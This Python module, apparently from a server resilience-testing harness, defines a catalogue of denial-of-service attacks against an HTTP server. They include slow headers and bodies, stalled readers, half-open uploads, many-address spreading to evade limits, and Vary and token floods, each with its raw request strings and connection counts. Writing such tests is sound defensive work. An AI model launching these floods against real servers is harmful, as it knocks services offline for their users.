"""The attacks, by name."""

from __future__ import annotations

from dataclasses import replace

from .swarm import Attack

LARGE = "/large"
"""A target whose response a stalled reader does not get into its buffers."""

STORED = "/stored"
"""One that is stored: it is read by many, and is in memory once."""

MANY = 60_000
"""Addresses, of which hardly two are the same."""


def scaled(attack: Attack, by: float, reconnects: int) -> Attack:
    """The same with fewer connections, and so many new ones a second."""
    return replace(attack, connections=max(1, round(attack.connections * by)), reconnects=reconnects)


ATTACKS: dict[str, list[Attack]] = {
    # 30 KB of a head, and then a byte a second. 1,000 of them would be 64 MB of slabs.
    "slow heads": [
        Attack("slow heads", 1500, "GET /small HTTP/1.1\r\nHost: a\r\nX-Slow: ", padding=30_000, drip="x"),
        Attack("short heads", 1500, "GET /small HTTP/1.1\r\nHost: a\r\nX-Slow: ", drip="x", interval=0.5),
    ],
    "slow bodies": [
        Attack(
            "slow bodies",
            1100,
            "POST /take HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\nx",
            drip="x",
            interval=10.0,
        ),
        Attack(
            "slow chunks",
            1100,
            "POST /take HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n",
            drip="1\r\nx\r\n",
            interval=10.0,
        ),
    ],
    "stalled readers": [
        Attack("stalled readers", 600, f"GET {LARGE} HTTP/1.1\r\nHost: a\r\n\r\n", reads=False),
    ],
    "stalled readers of hits": [
        Attack("stalled readers", 1600, f"GET {STORED} HTTP/1.1\r\nHost: a\r\n\r\n", reads=False),
    ],
    # A part of a body that has a length, and then nothing.
    "half-open uploads": [
        Attack(
            "half-open uploads",
            1600,
            "POST /take HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n",
            padding=20_000,
        ),
    ],
    "more readers than connections": [
        Attack("stalled readers", 1600, f"GET {LARGE} HTTP/1.1\r\nHost: a\r\n\r\n", reads=False),
    ],
    # No address has more than another: it cannot be told from a crowd.
    "readers of many addresses": [
        Attack(
            "many addresses",
            1600,
            f"GET {LARGE} HTTP/1.1\r\nHost: a\r\n\r\n",
            reads=False,
            addresses=MANY,
        ),
    ],
    "vary flood": [
        Attack(
            "vary flood",
            50,
            "GET /vary HTTP/1.1\r\nHost: a\r\nOrigin: https://{n}.example\r\n\r\n",
            again=True,
            interval=0.1,
        ),
    ],
    "token flood": [
        Attack(
            "token flood",
            50,
            "GET /guarded/one HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer bad-{n}\r\n\r\n",
            again=True,
            interval=0.1,
        ),
    ],
}
